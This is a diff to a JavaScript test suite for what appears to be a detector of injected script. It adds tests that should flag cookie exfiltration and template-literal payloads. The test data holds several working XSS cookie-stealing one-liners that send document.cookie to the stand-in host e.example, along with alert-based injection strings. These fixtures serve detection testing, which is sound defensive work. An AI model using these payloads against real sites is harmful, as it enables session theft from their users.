@@ -93,6 +93,23 @@ describe("js check", () => {
     expect(constructs("f()".repeat(200_000) + ";';alert(1)//")).toContain("dialog-call");
   });
 
+  test("the page's cookie sent off the page is stealing it; a plain read is not", () => {
+    for (const v of ['new Image().src="//e.example/?c="+document.cookie', "fetch('//e.example/?c='+encodeURIComponent(document.cookie))", 'navigator.sendBeacon("//e.example",document.cookie)', "fetch(`https://e.example/${document.cookie}`)"]) {
+      expect([v, constructs(v)]).toEqual([v, expect.arrayContaining(["cookie-exfiltration"])]);
+      expect(top(v)).toBeGreaterThanOrEqual(0.7);
+    }
+    for (const v of ["var c = document.cookie;", 'x=document.cookie.indexOf("a=")', "`hello ${document.cookie}`"]) expect(constructs(v)).not.toContain("cookie-exfiltration");
+  });
+
+  test("a template literal's substitutions are code", () => {
+    expect(constructs("x=`${alert(1)}`")).toContain("dialog-call");
+    expect(top("';`${alert(document.cookie)}`//")).toBeGreaterThanOrEqual(0.9);
+    expect(constructs("`${a}${b} and ${c}`")).toEqual([]);
+    // Unclosed substitutions, and many of them: linear, no throw.
+    expect(() => checkJs("`${".repeat(100_000), 0, 300_000, "bare")).not.toThrow();
+    expect(constructs(`x=\`${"${a}".repeat(100_000)}\${alert(1)}\``)).toContain("dialog-call");
+  });
+
   test("a block comment between a name and its call or member is a space, as JavaScript reads it", () => {
     for (const v of ['";alert/*x*/(1)//', "';alert /* y */ (1);//", "';x=document/*a*/.cookie;//"]) expect(top(v)).toBeGreaterThanOrEqual(0.7);
     expect(top("alert/*x*/(1)")).toBeLessThan(0.8);
